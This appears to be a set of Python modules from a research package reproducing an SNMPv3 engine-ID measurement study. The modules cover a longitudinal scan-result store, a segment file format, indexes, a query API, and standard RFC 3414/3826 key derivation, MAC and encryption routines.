            round_id=round_id,
            label=scan.label,
            ip_version=scan.ip_version,
            started_at=scan.started_at,
            finished_at=scan.finished_at,
            targets_probed=scan.targets_probed,
        )

    def ingest_campaign(
        self, result: "CampaignResult", *, round_id: "int | None" = None
    ) -> "list[IngestStats]":
        """Ingest every scan of one campaign result as one round."""
        if round_id is None:
            round_id = self.next_round_id()
        return [
            self.ingest_result(scan, round_id=round_id)
            for scan in sorted(
                result.scans.values(), key=lambda s: (s.started_at, s.label)
            )
        ]

    def ingest_stream(
        self, stream: "ScanStream", *, round_id: int
    ) -> IngestStats:
        """Ingest one streaming scan without materializing it.

        Observation batches flow straight from the executor into segment
        parts — no per-observation flattening between decode and write;
        the scan totals (``targets_probed``) are patched into the
        manifest after the stream is exhausted.  Byte-identical to
        :meth:`ingest_result` over the same scan at any worker count.
        """
        stats = self.ingest_scan_batches(
            stream.batches(),
            round_id=round_id,
            label=stream.label,
            ip_version=stream.ip_version,
            started_at=stream.started_at,
            finished_at=stream.execution.finished_at,
        )
        # probes_sent finalizes only once the stream is drained.
        entry = self._scan_entry(round_id, stream.label)
        entry["targets_probed"] = stream.execution.metrics.probes_sent
        self._write_manifest()
        return stats

    def next_round_id(self) -> int:
        """The smallest round ID strictly above every stored round."""
        rounds = self.rounds()
        return (rounds[-1] + 1) if rounds else 1

    # -- JSONL interchange -------------------------------------------------

    def import_jsonl(
        self, path: "str | Path", *, round_id: int, label: "str | None" = None
    ) -> IngestStats:
        """Backfill one existing scan JSONL export into the store.

        The export's self-describing header supplies the scan metadata;
        ``label`` overrides the recorded label (e.g. when the same file
        is replayed into several synthetic rounds).
        """
        from repro.io.exports import iter_scan_jsonl, read_scan_header

        header = read_scan_header(path)
        return self.ingest_scan(
            iter_scan_jsonl(path),
            round_id=round_id,
            label=label if label is not None else header["label"],
            ip_version=header["ip_version"],
            started_at=header["started_at"],
            finished_at=header["finished_at"],
            targets_probed=header["targets_probed"],
        )

    def export_jsonl(self, round_id: int, label: str, path: "str | Path") -> int:
        """Write one stored scan back out as a standard JSONL export.

        Produces exactly what :func:`repro.io.exports.export_scan_jsonl`
        would for the reconstructed scan, so JSONL → store → JSONL
        round-trips (byte-identical for sorted exports).
        """
        from repro.io.exports import export_scan_jsonl

        return export_scan_jsonl(self.scan_result(round_id, label), path)

    # -- catalogue ---------------------------------------------------------

    def rounds(self) -> "list[int]":
        return sorted(int(r) for r in self._manifest["rounds"])

    def labels(self, round_id: int) -> "list[str]":
        """A round's scan labels in virtual-schedule order."""
        entry = self._manifest["rounds"].get(str(round_id))
        if entry is None:
            raise StoreError(f"no such round: {round_id}")
        return sorted(
            entry, key=lambda label: (entry[label]["started_at"], label)
        )

    def scan_info(self, round_id: int, label: str) -> dict:
        """The manifest entry for one scan (copied)."""
        return dict(self._scan_entry(round_id, label))

    def segment_paths(
        self, round_id: "int | None" = None, label: "str | None" = None
    ) -> "list[Path]":
        """Current segment files, in catalogue order."""
        paths: list[Path] = []
        for rid in self.rounds():
            if round_id is not None and rid != round_id:
                continue
            for scan_label in self.labels(rid):
                if label is not None and scan_label != label:
                    continue
                for name in self._scan_entry(rid, scan_label)["segments"]:
                    paths.append(self._segment_dir / name)
        return paths

    def _reader(self, name: str) -> SegmentReader:
        reader = self._readers.get(name)
        if reader is None:
            reader = self._readers[name] = SegmentReader(
                self._segment_dir / name
            )
        return reader

    # -- reads -------------------------------------------------------------

    def observations(
        self, round_id: "int | None" = None, label: "str | None" = None
    ) -> Iterator[StoredObservation]:
        """Stream stored observations in catalogue + storage order."""
        for rid in self.rounds():
            if round_id is not None and rid != round_id:
                continue
            for scan_label in self.labels(rid):
                if label is not None and scan_label != label:
                    continue
                for name in self._scan_entry(rid, scan_label)["segments"]:
                    for obs in self._reader(name).observations():
                        yield StoredObservation(
                            round_id=rid, label=scan_label, observation=obs
                        )

    def scan_result(self, round_id: int, label: str) -> ScanResult:
        """Rebuild one scan as a legacy :class:`ScanResult`."""
        info = self._scan_entry(round_id, label)
        scan = ScanResult(
            label=label,
            ip_version=info["ip_version"],
            started_at=info["started_at"],
            finished_at=info["finished_at"],
            targets_probed=info["targets_probed"],
        )
        for stored in self.observations(round_id=round_id, label=label):
            scan.add(stored.observation)
        return scan

    def history(self, address: IPAddress) -> "list[StoredObservation]":
        """Every stored observation of one address, oldest first.

        Uses the segment footer indexes: only blocks whose address range
        covers the key are read and decoded.
        """
        sightings: list[StoredObservation] = []
        for rid in self.rounds():
            for scan_label in self.labels(rid):
                for name in self._scan_entry(rid, scan_label)["segments"]:
                    found = self._reader(name).lookup(address)
                    if found is not None:
                        sightings.append(
                            StoredObservation(
                                round_id=rid,
                                label=scan_label,
                                observation=found,
                            )
                        )
                        break  # one observation per scan: parts are disjoint
        return sightings

    def query(self) -> "StoreQuery":
        """The indexed query surface (see :class:`repro.store.query.StoreQuery`)."""
        from repro.store.query import StoreQuery

        return StoreQuery(store=self)

    def index(self) -> StoreIndex:
        """The secondary indexes, built on first use and cached.

        Ingest invalidates the cache (new rows); compaction does not
        (row set unchanged, so every indexed answer is too).
        """
        if self._index is None:
            self._index = StoreIndex.build(self)
        return self._index

    # -- timelines ---------------------------------------------------------

    def timelines(self) -> TimelineAccumulator:
        """Device timelines over all stored rounds, folded incrementally.

        The accumulator is cached: a call after a new round's ingest
        folds only that round.  (Ingesting into an *already folded*
        round discards the cache — correctness beats incrementality.)
        """
        acc = self._timeline_acc
        if acc is None:
            acc = self._timeline_acc = TimelineAccumulator(
                reboot_threshold=self.reboot_threshold
            )
        for rid in self.rounds():
            if rid in acc.folded_rounds:
                continue
            scans = [
                (
                    label,
                    self._scan_entry(rid, label)["started_at"],
                    [
                        stored.observation
                        for stored in self.observations(
                            round_id=rid, label=label
                        )
                    ],
                )
                for label in self.labels(rid)
            ]
            acc.fold_round(rid, scans)
        return acc

    def _invalidate_round(self, round_id: int) -> None:
        """Drop caches that a write into ``round_id`` stales."""
        self._index = None
        acc = self._timeline_acc
        if acc is not None and round_id in acc.folded_rounds:
            self._timeline_acc = None

    # -- compaction --------------------------------------------------------

    def compact(self) -> CompactStats:
        """Merge each scan's parts into one segment; answers are invariant.

        New merged segments are written first, the manifest is swapped to
        reference them, and only then are the obsolete parts deleted —
        a crash at any point leaves a readable store.
        """
        scans_compacted = 0
        segments_before = 0
        segments_after = 0
        bytes_before = 0
        bytes_after = 0
        obsolete: list[Path] = []
        for rid in self.rounds():
            for label in self.labels(rid):
                entry = self._scan_entry(rid, label)
                names = entry["segments"]
                segments_before += len(names)
                size = sum(
                    (self._segment_dir / name).stat().st_size for name in names
                )
                bytes_before += size
                if len(names) <= 1:
                    segments_after += len(names)
                    bytes_after += size
                    continue
                generation = self._next_generation()
                merged_name = f"r{rid:06d}-{label}-g{generation:06d}-p0000.seg"
                merged_path = self._segment_dir / merged_name
                meta = SegmentMeta(
                    round_id=rid,
                    label=label,
                    ip_version=entry["ip_version"],
                    started_at=entry["started_at"],
                    part=0,
                )
                rows = write_segment(
                    merged_path,
                    meta,
                    (
                        obs
                        for name in names
                        for obs in self._reader(name).observations()
                    ),
                    block_rows=self.block_rows,
                )
                if rows != entry["rows"]:  # pragma: no cover - invariant
                    merged_path.unlink()
                    raise StoreError(
                        f"compaction row drift on round {rid} {label}: "
                        f"{rows} != {entry['rows']}"
                    )
                obsolete.extend(self._segment_dir / name for name in names)
                entry["segments"] = [merged_name]
                scans_compacted += 1
                segments_after += 1
                bytes_after += merged_path.stat().st_size
        self._write_manifest()
        for path in obsolete:
            self._readers.pop(path.name, None)
            path.unlink(missing_ok=True)
        return CompactStats(
            scans_compacted=scans_compacted,
            segments_before=segments_before,
            segments_after=segments_after,
            bytes_before=bytes_before,
            bytes_after=bytes_after,
        )

    # -- stats -------------------------------------------------------------

    def stats(self) -> dict:
        """Roll-up of the store's physical and logical shape (JSON-safe)."""
        per_round: dict[str, dict] = {}
        segments = 0
        rows = 0
        size = 0
        for rid in self.rounds():
            round_rows = 0
            round_segments = 0
            for label in self.labels(rid):
                entry = self._scan_entry(rid, label)
                round_rows += entry["rows"]
                round_segments += len(entry["segments"])
                for name in entry["segments"]:
                    size += (self._segment_dir / name).stat().st_size
            per_round[str(rid)] = {
                "scans": len(self.labels(rid)),
                "rows": round_rows,
                "segments": round_segments,
            }
            segments += round_segments
            rows += round_rows
        return {
            "format": STORE_FORMAT,
            "version": STORE_VERSION,
            "generation": self._manifest["generation"],
            "rounds": len(per_round),
            "segments": segments,
            "rows": rows,
            "segment_bytes": size,
            "bytes_per_row": (size / rows) if rows else 0.0,
            "per_round": per_round,
        }


__all__ = [
    "DEFAULT_SEGMENT_ROWS",
    "STORE_FORMAT",
    "STORE_VERSION",
    "CompactStats",
    "IngestStats",
    "Store",
    "StoreError",
    "StoredObservation",
]
