"""On-disk segment files — the store's append-only unit of persistence.

A segment holds the observations of one scan (one ``(round, label)``
pair, possibly split across several *parts* while ingesting) in the
exact columnar encoding of :mod:`repro.scanner.wire`, framed so a reader
can prune without decoding:

* a 4-byte magic (``RSEG``) and a format-version byte;
* a length-prefixed canonical-JSON **meta** object (round, label,
  address family, virtual schedule, part number);
* a sequence of length-prefixed **blocks**, each a
  :func:`repro.scanner.wire.encode_observations` blob over a fixed
  number of rows (the writer re-chunks incoming batches, so segment
  bytes never depend on how the executor happened to batch);
* a compact struct-packed **footer index** — one entry per block with
  its file offset, byte length, row count and min/max address — plus a
  trailing footer length and end magic so the index is reachable from
  the end of the file without scanning.

Segments are immutable once written: the store never appends to or
rewrites an existing segment file, it only writes new ones (ingest
parts, compaction outputs) and drops obsolete ones from the manifest.
Everything is deterministic — canonical JSON, fixed chunking, no
wall-clock — so one campaign at one seed produces byte-identical
segments at any worker count.
"""

from __future__ import annotations

import json
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Iterator, Sequence

from repro.net.addresses import IPAddress
from repro.scanner.records import ScanObservation
from repro.scanner.wire import decode_observations, encode_observations

#: Segment format version, bumped on any incompatible layout change.
SEGMENT_VERSION = 1

#: Rows per columnar block; the writer re-chunks input to this size so
#: segment bytes are independent of executor batch boundaries.
DEFAULT_BLOCK_ROWS = 2048

MAGIC = b"RSEG"
END_MAGIC = b"GESR"

_U32 = struct.Struct("<I")
#: Footer entry: block offset, blob length, row count, min/max address
#: (16-byte big-endian, IPv4 left-padded) — fixed width for seekability.
_FOOTER_ENTRY = struct.Struct("<QII16s16s")
_TRAILER = struct.Struct("<I4s")


class SegmentError(ValueError):
    """Raised when a file is not a valid store segment."""


@dataclass(frozen=True)
class SegmentMeta:
    """Self-description stamped into every segment.

    Scan-level totals (``finished_at``, ``targets_probed``) live in the
    store manifest, not here: a streamed ingest writes its first part
    before those totals exist, and segment bytes must not depend on the
    ingest path taken.
    """

    round_id: int
    label: str
    ip_version: int
    started_at: float
    part: int = 0

    def to_json(self) -> str:
        return json.dumps(
            {
                "round": self.round_id,
                "label": self.label,
                "ip_version": self.ip_version,
                "started_at": self.started_at,
                "part": self.part,
            },
            sort_keys=True,
            separators=(",", ":"),
        )

    @classmethod
    def from_json(cls, text: str) -> "SegmentMeta":
        row = json.loads(text)
        return cls(
            round_id=row["round"],
            label=row["label"],
            ip_version=row["ip_version"],
            started_at=row["started_at"],
            part=row["part"],
        )


@dataclass(frozen=True)
class BlockInfo:
    """One footer-index entry: where a block lives and what it spans."""

    offset: int
    length: int
    rows: int
    min_address: int
    max_address: int

    def may_contain(self, address: IPAddress) -> bool:
        return self.min_address <= int(address) <= self.max_address


def _chunk(
    observations: Iterable[ScanObservation], block_rows: int
) -> Iterator[list[ScanObservation]]:
    block: list[ScanObservation] = []
    for observation in observations:
        block.append(observation)
        if len(block) >= block_rows:
            yield block
            block = []
    if block:
        yield block


def write_segment(
    path: "str | Path",
    meta: SegmentMeta,
    observations: Iterable[ScanObservation],
    *,
    block_rows: int = DEFAULT_BLOCK_ROWS,
) -> int:
    """Write one segment file; returns the number of rows written.

    The caller owns deduplication and ordering — the writer persists
    exactly what it is handed, re-chunked to ``block_rows`` rows per
    block.  An empty observation stream still produces a valid (zero
    block) segment so a scan with no responders stays recorded.
    """
    if block_rows < 1:
        raise ValueError(f"block_rows must be positive, got {block_rows}")
    path = Path(path)
    meta_bytes = meta.to_json().encode("utf-8")
    entries: list[BlockInfo] = []
    rows_written = 0
    with path.open("wb") as handle:
        handle.write(MAGIC)
        handle.write(bytes([SEGMENT_VERSION]))
        handle.write(_U32.pack(len(meta_bytes)))
        handle.write(meta_bytes)
        offset = len(MAGIC) + 1 + _U32.size + len(meta_bytes)
        for block in _chunk(observations, block_rows):
            blob = encode_observations(block)
            handle.write(_U32.pack(len(blob)))
            handle.write(blob)
            addresses = [int(o.address) for o in block]
            entries.append(
                BlockInfo(
                    offset=offset + _U32.size,
                    length=len(blob),
                    rows=len(block),
                    min_address=min(addresses),
                    max_address=max(addresses),
                )
            )
            offset += _U32.size + len(blob)
            rows_written += len(block)
        footer = bytearray(_U32.pack(len(entries)))
        for entry in entries:
            footer += _FOOTER_ENTRY.pack(
                entry.offset,
                entry.length,
                entry.rows,
                entry.min_address.to_bytes(16, "big"),
                entry.max_address.to_bytes(16, "big"),
            )
        handle.write(footer)
        handle.write(_TRAILER.pack(len(footer), END_MAGIC))
    return rows_written


class SegmentReader:
    """Random- and sequential-access view over one segment file.

    The constructor reads only the head (meta) and the footer index;
    block bytes are fetched and decoded on demand, so a point lookup
    touches just the blocks whose address range covers the key.
    """

    def __init__(self, path: "str | Path") -> None:
        self.path = Path(path)
        with self.path.open("rb") as handle:
            head = handle.read(len(MAGIC) + 1 + _U32.size)
            if len(head) < len(MAGIC) + 1 + _U32.size or head[: len(MAGIC)] != MAGIC:
                raise SegmentError(f"{self.path} is not a store segment")
            version = head[len(MAGIC)]
            if version != SEGMENT_VERSION:
                raise SegmentError(f"unsupported segment version {version}")
            (meta_len,) = _U32.unpack_from(head, len(MAGIC) + 1)
            meta_bytes = handle.read(meta_len)
            if len(meta_bytes) != meta_len:
                raise SegmentError("truncated segment meta")
            self.meta = SegmentMeta.from_json(meta_bytes.decode("utf-8"))
            handle.seek(0, 2)
            size = handle.tell()
            if size < _TRAILER.size:
                raise SegmentError("segment too short for trailer")
            handle.seek(size - _TRAILER.size)
            footer_len, end_magic = _TRAILER.unpack(handle.read(_TRAILER.size))
            if end_magic != END_MAGIC:
                raise SegmentError("bad segment end magic")
            footer_start = size - _TRAILER.size - footer_len
            if footer_start < 0:
                raise SegmentError("segment footer overruns file")
            handle.seek(footer_start)
            footer = handle.read(footer_len)
        if len(footer) < _U32.size:
            raise SegmentError("truncated segment footer")
        (count,) = _U32.unpack_from(footer, 0)
        expected = _U32.size + count * _FOOTER_ENTRY.size
        if len(footer) != expected:
            raise SegmentError("segment footer length mismatch")
        self.blocks: list[BlockInfo] = []
        for index in range(count):
            offset, length, rows, lo, hi = _FOOTER_ENTRY.unpack_from(
                footer, _U32.size + index * _FOOTER_ENTRY.size
            )
            self.blocks.append(
                BlockInfo(
                    offset=offset,
                    length=length,
                    rows=rows,
                    min_address=int.from_bytes(lo, "big"),
                    max_address=int.from_bytes(hi, "big"),
                )
            )

    @property
    def rows(self) -> int:
        return sum(block.rows for block in self.blocks)

    def read_block(self, block: BlockInfo) -> list[ScanObservation]:
        with self.path.open("rb") as handle:
            handle.seek(block.offset)
            blob = handle.read(block.length)
        if len(blob) != block.length:
            raise SegmentError("truncated segment block")
        return decode_observations(blob)

    def observations(self) -> Iterator[ScanObservation]:
        """All rows in block order, decoded one block at a time."""
        with self.path.open("rb") as handle:
            for block in self.blocks:
                handle.seek(block.offset)
                blob = handle.read(block.length)
                if len(blob) != block.length:
                    raise SegmentError("truncated segment block")
                yield from decode_observations(blob)

    def lookup(self, address: IPAddress) -> "ScanObservation | None":
        """Point lookup via the footer index; decodes candidate blocks only."""
        for block in self.blocks:
            if not block.may_contain(address):
                continue
            for observation in self.read_block(block):
                if observation.address == address:
                    return observation
        return None


def read_segment_meta(path: "str | Path") -> SegmentMeta:
    """Read just the meta header of a segment."""
    return SegmentReader(path).meta


def iter_segment(path: "str | Path") -> Iterator[ScanObservation]:
    """Stream every observation of a segment in storage order."""
    return SegmentReader(path).observations()


def segment_fingerprint(paths: "Sequence[str | Path]") -> bytes:
    """Order-sensitive digest over raw segment bytes (determinism tests)."""
    import hashlib

    digest = hashlib.sha256()
    for path in paths:
        digest.update(Path(path).read_bytes())
    return digest.digest()


__all__ = [
    "DEFAULT_BLOCK_ROWS",
    "SEGMENT_VERSION",
    "BlockInfo",
    "SegmentError",
    "SegmentMeta",
    "SegmentReader",
    "iter_segment",
    "read_segment_meta",
    "segment_fingerprint",
    "write_segment",
]
