"""Secondary indexes over a store's observations.

One sequential pass over the segment files builds the three inverted
views every serving workload needs:

* **engine ID → addresses** — which IPs ever answered with an engine ID
  (the §5 alias-resolution join key);
* **address → observation history** — every sighting of one IP across
  rounds, oldest first (the longitudinal point-query);
* **device rollups** — per *device* (distinct engine ID) groupings by
  IANA enterprise number, by MAC-OUI vendor, and by the paper's final
  vendor verdict (:func:`repro.fingerprint.vendor.infer_vendor`), which
  back the Figure 11/12 censuses straight from the store.

The index is an in-memory structure rebuilt from segments on demand and
cached by the :class:`~repro.store.store.Store`; it holds no state of
its own that could drift from the segment files, so compaction (which
preserves every row) never invalidates it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.fingerprint.vendor import infer_vendor
from repro.net.addresses import IPAddress
from repro.snmp.engine_id import EngineId, EngineIdFormat

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.store.store import Store, StoredObservation

#: Rollup bucket for engine IDs too short to carry an enterprise number.
NO_ENTERPRISE = -1


@dataclass
class StoreIndex:
    """Materialized inverted views over every stored observation."""

    engine_to_ips: "dict[bytes, set[IPAddress]]" = field(default_factory=dict)
    ip_history: "dict[IPAddress, list[StoredObservation]]" = field(
        default_factory=dict
    )
    devices_by_enterprise: "dict[int, set[bytes]]" = field(default_factory=dict)
    devices_by_oui: "dict[str, set[bytes]]" = field(default_factory=dict)
    devices_by_vendor: "dict[str, set[bytes]]" = field(default_factory=dict)
    rows_indexed: int = 0

    @classmethod
    def build(cls, store: "Store") -> "StoreIndex":
        """One pass over the store; vendor inference once per engine ID."""
        index = cls()
        engines: dict[bytes, EngineId] = {}
        for stored in store.observations():
            index.rows_indexed += 1
            address = stored.observation.address
            index.ip_history.setdefault(address, []).append(stored)
            engine_id = stored.observation.engine_id
            if engine_id is None:
                continue
            raw = engine_id.raw
            index.engine_to_ips.setdefault(raw, set()).add(address)
            engines.setdefault(raw, engine_id)
        for raw, engine_id in engines.items():
            enterprise = (
                engine_id.enterprise
                if engine_id.enterprise is not None
                else NO_ENTERPRISE
            )
            index.devices_by_enterprise.setdefault(enterprise, set()).add(raw)
            if engine_id.format is EngineIdFormat.MAC:
                oui_vendor = infer_vendor(engine_id).oui_vendor
                if oui_vendor is not None:
                    index.devices_by_oui.setdefault(oui_vendor, set()).add(raw)
            verdict = infer_vendor(engine_id)
            index.devices_by_vendor.setdefault(verdict.vendor, set()).add(raw)
        return index

    @property
    def device_count(self) -> int:
        """Distinct engine IDs — the store's 'devices before de-aliasing'."""
        return len(self.engine_to_ips)

    def vendor_census(self) -> "list[tuple[str, int]]":
        """(vendor, device count), largest first — Figure 11 from the index."""
        return sorted(
            ((vendor, len(devs)) for vendor, devs in self.devices_by_vendor.items()),
            key=lambda kv: (-kv[1], kv[0]),
        )

    def enterprise_census(self) -> "list[tuple[int, int]]":
        """(enterprise number, device count), largest first."""
        return sorted(
            (
                (enterprise, len(devs))
                for enterprise, devs in self.devices_by_enterprise.items()
            ),
            key=lambda kv: (-kv[1], kv[0]),
        )

    def oui_census(self) -> "list[tuple[str, int]]":
        """(MAC-OUI vendor, device count) for MAC-format engine IDs."""
        return sorted(
            ((vendor, len(devs)) for vendor, devs in self.devices_by_oui.items()),
            key=lambda kv: (-kv[1], kv[0]),
        )


__all__ = ["NO_ENTERPRISE", "StoreIndex"]
