"""repro.store — the persistent longitudinal scan observatory.

Everything upstream of this package is one-shot: a campaign runs, its
:class:`~repro.scanner.records.ScanResult` objects are analysed, the
process exits and the measurement is gone.  The paper's longitudinal
results — §7 uptime/reboot statistics, §5 cross-scan alias resolution —
and all of the follow-up work are built on *corpora* of repeated scan
rounds.  This package is that corpus layer:

* :mod:`repro.store.segment` — immutable, deterministic segment files
  (the :mod:`repro.scanner.wire` columnar codec plus a footer index);
* :mod:`repro.store.store` — the :class:`Store`: append-only rounds,
  streaming ingest from campaigns or JSONL backfills, compaction;
* :mod:`repro.store.index` — inverted indexes (engine ID → IPs,
  IP → history, enterprise/OUI/vendor → devices);
* :mod:`repro.store.timeline` — incremental device timelines (reboot
  events, uptime ECDF inputs, engine-ID churn, alias-set diffs);
* :mod:`repro.store.query` — :class:`StoreQuery`, the read surface.

Blessed via :mod:`repro.api`: ``Session(store=...)`` auto-ingests each
campaign round; the ``store`` CLI verbs drive the same API.
"""

from repro.store.index import StoreIndex
from repro.store.query import StoreQuery
from repro.store.segment import (
    SegmentError,
    SegmentMeta,
    SegmentReader,
    iter_segment,
    read_segment_meta,
    write_segment,
)
from repro.store.store import (
    CompactStats,
    IngestStats,
    Store,
    StoreError,
    StoredObservation,
)
from repro.store.timeline import (
    AliasDiff,
    DeviceTimeline,
    RebootEvent,
    Sighting,
    TimelineAccumulator,
    TimelineError,
)

__all__ = [
    "AliasDiff",
    "CompactStats",
    "DeviceTimeline",
    "IngestStats",
    "RebootEvent",
    "SegmentError",
    "SegmentMeta",
    "SegmentReader",
    "Sighting",
    "Store",
    "StoreError",
    "StoreIndex",
    "StoreQuery",
    "StoredObservation",
    "TimelineAccumulator",
    "TimelineError",
    "iter_segment",
    "read_segment_meta",
    "write_segment",
]
