"""The store's read API: point queries, rollups, timeline views.

:class:`StoreQuery` is the blessed serving surface over a
:class:`~repro.store.store.Store` — everything a downstream consumer
(the CLI verbs, the future query service) needs, backed by the segment
footer indexes for point lookups and the in-memory
:class:`~repro.store.index.StoreIndex` for inverted queries.  Query
answers are pure functions of the stored rounds: compaction and ingest
parallelism never change them (property-tested in ``tests/store/``).
"""

from __future__ import annotations

import ipaddress
from typing import TYPE_CHECKING

from repro.net.addresses import IPAddress
from repro.snmp.engine_id import EngineId

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.store.index import StoreIndex
    from repro.store.store import Store, StoredObservation
    from repro.store.timeline import AliasDiff, DeviceTimeline, RebootEvent


def _engine_raw(engine_id: "EngineId | bytes | str") -> bytes:
    if isinstance(engine_id, EngineId):
        return engine_id.raw
    if isinstance(engine_id, bytes):
        return engine_id
    return bytes.fromhex(engine_id.removeprefix("0x"))


class StoreQuery:
    """Indexed, read-only view over one store."""

    def __init__(self, *, store: "Store") -> None:
        self._store = store

    @property
    def index(self) -> "StoreIndex":
        return self._store.index()

    # -- point queries -----------------------------------------------------

    def history(self, address: "IPAddress | str") -> "list[StoredObservation]":
        """Every sighting of one address, oldest round first.

        Served from the segment footer indexes — only blocks whose
        address range covers the key are decoded.
        """
        if isinstance(address, str):
            address = ipaddress.ip_address(address)
        return self._store.history(address)

    def ips_with_engine_id(
        self, engine_id: "EngineId | bytes | str"
    ) -> "list[IPAddress]":
        """All addresses that ever answered with this engine ID, sorted."""
        members = self.index.engine_to_ips.get(_engine_raw(engine_id), set())
        return sorted(members, key=int)

    def engine_ids(self) -> "list[bytes]":
        """Every distinct engine ID observed, sorted."""
        return sorted(self.index.engine_to_ips)

    # -- rollups -----------------------------------------------------------

    @property
    def device_count(self) -> int:
        return self.index.device_count

    def vendor_census(self) -> "list[tuple[str, int]]":
        """(vendor, devices) served straight from the index (Figure 11)."""
        return self.index.vendor_census()

    def enterprise_census(self) -> "list[tuple[int, int]]":
        return self.index.enterprise_census()

    def oui_census(self) -> "list[tuple[str, int]]":
        return self.index.oui_census()

    def round_summary(self, round_id: int) -> dict:
        """Logical shape of one round: per-scan rows and totals."""
        store = self._store
        scans = {}
        for label in store.labels(round_id):
            info = store.scan_info(round_id, label)
            scans[label] = {
                "rows": info["rows"],
                "ip_version": info["ip_version"],
                "targets_probed": info["targets_probed"],
                "segments": len(info["segments"]),
            }
        return {"round": round_id, "scans": scans}

    # -- timeline views ----------------------------------------------------

    def timeline(
        self, engine_id: "EngineId | bytes | str"
    ) -> "DeviceTimeline | None":
        """One device's full longitudinal record, or ``None`` if unseen."""
        return self._store.timelines().timelines.get(_engine_raw(engine_id))

    def reboot_events(self) -> "list[RebootEvent]":
        return self._store.timelines().reboot_events()

    def alias_diffs(self) -> "list[AliasDiff]":
        return self._store.timelines().diffs

    def uptime_ecdf_inputs(self) -> "list[int]":
        return self._store.timelines().uptime_ecdf_inputs()

    def timeline_summary(self) -> dict:
        return self._store.timelines().summary()


__all__ = ["StoreQuery"]
