"""User-based Security Model (RFC 3414).

Implements the pieces of USM the paper's threat analysis rests on:

* **password-to-key** stretching (§A.2): the password is repeated to one
  megabyte and digested, which slows brute force;
* **key localization**: ``Kul = H(Ku || engineID || Ku)`` — the reason the
  engine ID must be disclosed to unauthenticated clients in the first
  place.  A manager cannot compute the localized key, and therefore cannot
  authenticate, without first learning the agent's engine ID;
* **HMAC-MD5-96** and **HMAC-SHA1-96** message authentication.

The discovery exchange the paper abuses exists precisely because of the
localization step: the protocol must hand out the engine ID *before* any
authentication can happen.
"""

from __future__ import annotations

import hashlib
import hmac
import enum

_MEGABYTE = 1024 * 1024
_TRUNCATED_MAC_LEN = 12  # 96 bits


class AuthProtocol(enum.Enum):
    """Authentication protocols defined in RFC 3414."""

    HMAC_MD5_96 = "md5"
    HMAC_SHA1_96 = "sha1"

    @property
    def digest_name(self) -> str:
        return self.value

    @property
    def key_length(self) -> int:
        """Digest (and thus key) length in bytes: 16 for MD5, 20 for SHA-1."""
        return hashlib.new(self.value).digest_size


def password_to_key(password: "str | bytes", protocol: AuthProtocol) -> bytes:
    """Stretch a password into the user key ``Ku`` (RFC 3414 §A.2).

    The password is cyclically repeated until one megabyte has been fed to
    the digest.  This is the expensive step an offline brute-force attacker
    must repeat per guess — but, as the paper notes (§8), once an attacker
    has the engine ID the rest of the dictionary attack can be precomputed.
    """
    if isinstance(password, str):
        password = password.encode("utf-8")
    if not password:
        raise ValueError("empty passwords are not permitted by USM")
    digest = hashlib.new(protocol.digest_name)
    repetitions, remainder = divmod(_MEGABYTE, len(password))
    digest.update(password * repetitions)
    digest.update(password[:remainder])
    return digest.digest()


def localize_key(user_key: bytes, engine_id: bytes, protocol: AuthProtocol) -> bytes:
    """Derive the per-engine localized key ``Kul = H(Ku || engineID || Ku)``."""
    if not engine_id:
        raise ValueError("key localization requires a non-empty engine ID")
    digest = hashlib.new(protocol.digest_name)
    digest.update(user_key + engine_id + user_key)
    return digest.digest()


def localized_key_from_password(
    password: "str | bytes", engine_id: bytes, protocol: AuthProtocol
) -> bytes:
    """Convenience composition of :func:`password_to_key` and :func:`localize_key`."""
    return localize_key(password_to_key(password, protocol), engine_id, protocol)


def compute_mac(localized_key: bytes, whole_message: bytes, protocol: AuthProtocol) -> bytes:
    """Compute the truncated 96-bit HMAC over the serialized message.

    Per RFC 3414, the MAC is computed with the ``msgAuthenticationParameters``
    field zero-filled; callers pass the message in that state.
    """
    mac = hmac.new(localized_key, whole_message, protocol.digest_name)
    return mac.digest()[:_TRUNCATED_MAC_LEN]


# -- privacy (RFC 3826: AES-128-CFB) -----------------------------------------


def privacy_key_from_password(
    password: "str | bytes", engine_id: bytes, protocol: AuthProtocol
) -> bytes:
    """Derive the 16-byte AES privacy key (RFC 3826 §1.2).

    The privacy key is the localized key truncated to the cipher's key
    size — the same stretch-and-localize construction as authentication,
    which is why engine-ID disclosure weakens *both* services at once.
    """
    localized = localized_key_from_password(password, engine_id, protocol)
    return localized[:16]


def aes_privacy_iv(engine_boots: int, engine_time: int, salt: bytes) -> bytes:
    """RFC 3826 §3.1.2.1: IV = boots(4) || time(4) || 64-bit salt."""
    if len(salt) != 8:
        raise ValueError(f"privacy salt must be 8 bytes, got {len(salt)}")
    return (
        (engine_boots & 0xFFFFFFFF).to_bytes(4, "big")
        + (engine_time & 0xFFFFFFFF).to_bytes(4, "big")
        + salt
    )


def encrypt_scoped_pdu(
    priv_key: bytes, engine_boots: int, engine_time: int, salt: bytes, plaintext: bytes
) -> bytes:
    """Encrypt a serialized ScopedPDU for the msgData field."""
    from repro.crypto.aes import cfb128_encrypt

    iv = aes_privacy_iv(engine_boots, engine_time, salt)
    return cfb128_encrypt(priv_key, iv, plaintext)


def decrypt_scoped_pdu(
    priv_key: bytes, engine_boots: int, engine_time: int, salt: bytes, ciphertext: bytes
) -> bytes:
    """Inverse of :func:`encrypt_scoped_pdu`."""
    from repro.crypto.aes import cfb128_decrypt

    iv = aes_privacy_iv(engine_boots, engine_time, salt)
    return cfb128_decrypt(priv_key, iv, ciphertext)


def verify_mac(
    localized_key: bytes,
    whole_message_with_zeroed_params: bytes,
    received_mac: bytes,
    protocol: AuthProtocol,
) -> bool:
    """Constant-time check of a received 96-bit MAC."""
    if len(received_mac) != _TRUNCATED_MAC_LEN:
        return False
    expected = compute_mac(localized_key, whole_message_with_zeroed_params, protocol)
    return hmac.compare_digest(expected, received_mac)
