"""Load-balanced SNMP endpoints: one VIP fronting several engines.

The paper's conclusion names "inferring NAT and load balancers in the
wild" as future work for the SNMPv3 technique.  A load balancer breaks
the protocol's one-engine-per-address assumption: successive probes to
the same virtual IP reach *different* backend devices and therefore
return different engine IDs — a distinctive, detectable signature (and a
population the two-scan consistency filter silently discards today).

:class:`AgentPool` models the VIP side: a scheduling policy (round-robin
or source-hash) dispatches each datagram to one backend agent.
"""

from __future__ import annotations

import enum
